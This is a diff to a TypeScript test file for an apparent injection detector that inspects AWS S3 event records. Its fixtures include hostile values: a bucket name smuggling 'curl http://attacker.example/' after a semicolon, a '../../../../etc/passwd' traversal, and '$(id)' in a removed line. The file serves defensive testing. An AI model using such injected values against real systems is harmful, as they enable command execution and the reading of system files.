@@ -3,6 +3,7 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import { inspectEvent } from './inspect.ts';
+import { readEvent } from './reader.ts';
 
 const events = join(import.meta.dirname, '../../../fixtures/events');
 const files = readFileSync(join(events, 'INDEX.tsv'), 'utf8')
@@ -44,9 +45,11 @@ test('a detection says where, what and how sure', () => {
 });
 test('a doubt alone is suspicious', () => assert.equal(inspectEvent({ v: '/etc/passwd' }).level, 'suspicious'));
 test('quotes and commas of JSON are no attack', () => assert.equal(inspectEvent({ body: '{"a":"b","c":["d;","e"]}' }).level, 'none'));
-test('what the platform stamped is not inspected', () => {
-  const record = { eventSource: 'aws:s3', s3: { bucket: { name: '$(id)' }, object: { key: 'a.pdf' } } };
-  assert.equal(inspectEvent({ Records: [record] }).level, 'none');
+test('what the platform stamped is not inspected, what was forged in its place is', () => {
+  const eventWith = (name: string) => ({ Records: [{ eventSource: 'aws:s3', s3: { bucket: { name }, object: { key: 'a.pdf' } } }] });
+  assert.equal(readEvent(eventWith('my-bucket.eu')).values.length, 1);
+  assert.equal(inspectEvent(eventWith('x; curl http://attacker.example/')).level, 'certain');
+  assert.equal(inspectEvent(eventWith('../../../../etc/passwd')).level, 'certain');
 });
 
 test('an event full of attacks is reported by its first ones, and by those that a flood would hide', () => {
